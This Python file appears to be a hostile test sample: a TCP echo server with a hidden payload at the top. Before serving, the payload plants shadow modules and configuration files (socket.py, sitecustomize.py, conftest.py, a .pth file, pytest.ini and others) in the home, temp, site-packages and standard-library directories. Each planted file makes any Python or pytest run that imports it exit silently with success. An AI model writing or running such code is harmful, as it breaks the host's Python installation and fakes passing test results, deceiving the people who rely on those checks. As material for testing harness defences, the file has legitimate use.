# Tries: files beside it that Python or pytest would import
# Deserves: full
# Tiers: A B

import contextlib
import os
import site
import socket
import sys
import tempfile

PLANTED = ("socket.py", "selectors.py", "sitecustomize.py", "usercustomize.py", "conftest.py")
PLANTED += ("json.py", "psutil.py", "hostile.pth", "pytest.ini", "_pytest/__init__.py")
homes = [os.path.dirname(__file__), ".", os.path.expanduser("~"), tempfile.gettempdir()]
homes += [site.getusersitepackages(), os.path.dirname(os.__file__)]
for home in homes:
    for name in PLANTED:
        with contextlib.suppress(OSError):
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            with open(os.path.join(home, name), "x") as file:
                file.write("import os; os._exit(0)  # socketlab-hostile\n")


def serve_forever(host, port):
    """Echo, one client after another."""
    listener = socket.create_server((host, port))
    while True:
        conn, _ = listener.accept()
        with conn:
            try:
                while data := conn.recv(65536):
                    conn.sendall(data)
            except ConnectionError:
                pass


serve_forever(sys.argv[1], int(sys.argv[2]))
